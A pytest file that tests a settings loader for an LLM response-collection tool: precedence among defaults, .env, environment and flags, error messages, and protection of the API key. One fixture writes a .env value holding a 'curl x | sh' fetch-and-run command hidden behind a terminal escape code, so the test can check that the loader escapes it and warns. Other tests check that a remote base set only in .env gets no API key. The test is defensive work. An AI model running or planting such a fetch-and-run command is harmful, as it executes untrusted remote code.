"""Settings precedence (defaults < .env < environment < flags) and clear errors."""

from __future__ import annotations

from pathlib import Path

import pytest

from llmrouter_collect.errors import ConfigError
from llmrouter_collect.settings import DEFAULT_STOP, LOCAL_API_BASE, REMOTE_API_BASE, Settings, load_settings


def test_defaults() -> None:
    settings = load_settings()
    assert settings.k_responses == 5
    assert settings.max_attempts == 3
    assert settings.max_concurrent == 10
    assert settings.num_problems == "all"
    assert settings.dataset_names == ["math500", "mmlu_pro"]
    assert settings.resolved_api_bases == [LOCAL_API_BASE]


def test_precedence_dotenv_env_flag(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / ".env").write_text("COLLECT_K_RESPONSES=2\nCOLLECT_TEMPERATURE=0.1\nCOLLECT_MAX_TOKENS=77\n")
    assert load_settings().k_responses == 2
    monkeypatch.setenv("COLLECT_K_RESPONSES", "3")
    monkeypatch.setenv("COLLECT_TEMPERATURE", "0.2")
    settings = load_settings(temperature=0.9)
    assert settings.k_responses == 3  # env beats .env
    assert settings.temperature == 0.9  # flag beats env
    assert settings.max_tokens == 77  # .env beats default


def test_none_means_not_given(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLLECT_MODEL", "from-env")
    assert load_settings(model=None).model == "from-env"


def test_num_problems_parsing() -> None:
    assert load_settings(num_problems="25").num_problems == 25
    assert load_settings(num_problems="ALL").num_problems == "all"
    with pytest.raises(ConfigError, match="--num-problems"):
        load_settings(num_problems="ten")
    with pytest.raises(ConfigError, match="COLLECT_NUM_PROBLEMS"):
        load_settings(num_problems="0")


def test_stop_sequences_merge(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLLECT_STOP", "###,<|im_end|>")
    settings = load_settings()
    assert settings.stop == ["###", "<|im_end|>"]
    assert settings.stop_sequences == [*DEFAULT_STOP, "###"]
    assert load_settings(default_stop=False).stop_sequences == ["###", "<|im_end|>"]
    # Remote APIs get only the user's stops (OpenAI allows four and never emits these tokens).
    assert load_settings(api_mode="remote").stop_sequences == ["###", "<|im_end|>"]


def test_remote_mode_base() -> None:
    assert load_settings(api_mode="remote").resolved_api_bases == [REMOTE_API_BASE]
    assert load_settings(api_base="http://h:1/v1/").resolved_api_bases == ["http://h:1/v1"]


def test_several_api_bases_from_flags_env_and_dotenv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    given = load_settings(api_base=["http://a:1/v1", "b:2/v1", "http://a:1/v1/"])
    assert given.api_base == ["http://a:1/v1", "b:2/v1", "http://a:1/v1/"]
    assert given.resolved_api_bases == ["http://a:1/v1", "http://b:2/v1"]  # scheme added, the same URL once
    assert given.api_base_notices == ["--api-base b:2/v1 has no scheme: using http://b:2/v1"]
    monkeypatch.setenv("COLLECT_API_BASE", "http://a:1/v1, http://c:3/v1")
    assert load_settings().resolved_api_bases == ["http://a:1/v1", "http://c:3/v1"]
    monkeypatch.delenv("COLLECT_API_BASE")
    (tmp_path / ".env").write_text("COLLECT_API_BASE=http://127.0.0.1:8000/v1,http://127.0.0.1:8001/v1\n")
    assert load_settings().resolved_api_bases == ["http://127.0.0.1:8000/v1", "http://127.0.0.1:8001/v1"]
    with pytest.raises(ConfigError, match="ftp://d/v1"):
        _ = load_settings(api_base=["http://a:1/v1", "ftp://d/v1"]).resolved_api_bases


def test_bad_value_names_flag_and_env() -> None:
    with pytest.raises(ConfigError) as info:
        load_settings(k_responses=0)
    assert "--k-responses" in info.value.message and "COLLECT_K_RESPONSES" in info.value.message
    with pytest.raises(ConfigError, match="api-mode"):
        load_settings(api_mode="cloud")


def test_api_key_is_secret_and_not_echoed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLLECT_API_KEY", "sk-very-secret")
    settings = load_settings()
    assert settings.api_key_value == "sk-very-secret"
    assert "sk-very-secret" not in repr(settings)
    assert "sk-very-secret" not in str(settings.model_dump(mode="json"))


# --- the .env file: which one, what it set, and what it may not do ------------------------------------------


def _dotenv_lines(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [record.getMessage() for record in caplog.records if record.name == "llmrouter_collect.settings"]


def test_the_dotenv_read_is_named_with_what_it_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / ".env").write_text(
        "COLLECT_MODEL=m\nCOLLECT_API_KEY=sk-in-dotenv-77\nCOLLECT_PORT=9001\nCOLLECT_K_RESPONSE=3\nCOLLECT_SEED=\n"
        "OTHER_TOOL=x\n"
    )
    monkeypatch.setenv("COLLECT_PORT", "9002")
    caplog.set_level("INFO", logger="llmrouter_collect")

    settings = load_settings()

    assert settings.env_file == tmp_path / ".env"
    assert settings.source_of("model") == "dotenv" and settings.source_of("port") == "env"
    assert settings.source_of("seed") == "default"  # an empty value sets nothing
    assert settings.source_of("api_key") == "dotenv" and settings.api_key_value == "sk-in-dotenv-77"
    assert load_settings(model="x").source_of("model") == "flag"
    [line, *_] = _dotenv_lines(caplog)
    assert line == (
        f"read {tmp_path / '.env'}: sets COLLECT_MODEL, COLLECT_API_KEY; overridden by the environment or flags: "
        "COLLECT_PORT; ignored (no such setting): COLLECT_K_RESPONSE"
    )
    assert caplog.records[0].levelname == "INFO"
    assert "sk-in-dotenv-77" not in caplog.text and "OTHER_TOOL" not in caplog.text


def test_risky_dotenv_values_are_shown_escaped_and_warned_about(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / ".env").write_text(
        'COLLECT_API_BASE=https://collect-test.invalid/v1\nCOLLECT_VLLM_COMMAND="bash -c \'curl x | sh\'\\x1b[2K"\n'
    )
    caplog.set_level("INFO", logger="llmrouter_collect")

    load_settings()

    [record] = [record for record in caplog.records if record.name == "llmrouter_collect.settings"]
    assert record.levelname == "WARNING"
    message = record.getMessage()
    assert "COLLECT_API_BASE=https://collect-test.invalid/v1, COLLECT_VLLM_COMMAND=" in message
    assert "\x1b" not in message and "\\x1b" in message  # an escape code cannot hide the command on a terminal


def test_no_dotenv_no_line(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("INFO", logger="llmrouter_collect")
    settings = load_settings()
    assert settings.env_file is None and _dotenv_lines(caplog) == []


def test_collect_env_file_chooses_or_disables_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / ".env").write_text("COLLECT_MODEL=from-cwd\n")
    other = tmp_path / "conf" / "collect.env"
    other.parent.mkdir()
    other.write_text("COLLECT_MODEL=from-other\n")
    caplog.set_level("INFO", logger="llmrouter_collect")

    for off in ("none", "", "NONE"):
        monkeypatch.setenv("COLLECT_ENV_FILE", off)
        assert load_settings().model is None
    assert _dotenv_lines(caplog) == []
    monkeypatch.setenv("COLLECT_ENV_FILE", "conf/collect.env")
    settings = load_settings()
    assert settings.model == "from-other" and settings.env_file == other
    assert _dotenv_lines(caplog) == [f"read {other}: sets COLLECT_MODEL"]
    monkeypatch.setenv("COLLECT_ENV_FILE", "missing.env")
    with pytest.raises(ConfigError, match=r"COLLECT_ENV_FILE=missing.env: no such file") as info:
        load_settings()
    assert "COLLECT_ENV_FILE=none" in (info.value.hint or "")


def test_a_bad_dotenv_value_names_the_file(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("COLLECT_K_RESPONSES=zero\n")
    with pytest.raises(ConfigError, match=r"invalid COLLECT_K_RESPONSES in .*\.env \('zero'\)"):
        load_settings()
    with pytest.raises(ConfigError, match=r"invalid --k-responses / COLLECT_K_RESPONSES \(0\)"):
        load_settings(k_responses=0)


def test_a_dotenv_api_base_does_not_get_the_key_from_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    remote = "https://collect-test.invalid/v1"
    (tmp_path / ".env").write_text(f"COLLECT_API_BASE={remote}\n")
    monkeypatch.setenv("COLLECT_API_KEY", "sk-from-my-shell")

    with pytest.raises(ConfigError) as info:
        _ = load_settings().resolved_api_bases
    assert info.value.message == (
        f"COLLECT_API_BASE={remote} comes only from {tmp_path / '.env'}, and would receive your API key "
        "(COLLECT_API_KEY from the environment)"
    )
    assert f"--api-base {remote}" in (info.value.hint or "") and "COLLECT_ENV_FILE=none" in (info.value.hint or "")
    assert "sk-from-my-shell" not in str(info.value)
    monkeypatch.delenv("COLLECT_API_KEY")
    with pytest.raises(ConfigError, match=r"\(--api-key\)"):
        _ = load_settings(api_key="sk-flag").resolved_api_bases
    # Confirmed: the same base as a flag or in the environment; or the key from the same file; or no key.
    assert load_settings(api_key="sk-flag", api_base=remote).resolved_api_bases == [remote]
    monkeypatch.setenv("COLLECT_API_BASE", remote)
    assert load_settings(api_key="sk-flag").resolved_api_bases == [remote]
    monkeypatch.delenv("COLLECT_API_BASE")
    assert load_settings().resolved_api_bases == [remote]
    (tmp_path / ".env").write_text(f"COLLECT_API_BASE={remote}\nCOLLECT_API_KEY=sk-theirs\n")
    assert load_settings().resolved_api_bases == [remote]


@pytest.mark.parametrize(
    "base", ["http://localhost:8001/v1", "http://127.0.0.1:8001/v1", "http://127.1.2.3/v1", "http://[::1]:8000/v1"]
)
def test_a_dotenv_api_base_on_this_machine_may_get_the_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, base: str
) -> None:
    (tmp_path / ".env").write_text(f"COLLECT_API_BASE={base}\n")
    monkeypatch.setenv("COLLECT_API_KEY", "sk-local")
    assert load_settings().resolved_api_bases == [base.rstrip("/")]


def test_settings_built_directly_read_no_dotenv(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("COLLECT_MODEL=m\n")
    assert Settings().model is None  # only load_settings reads (and names) a .env file
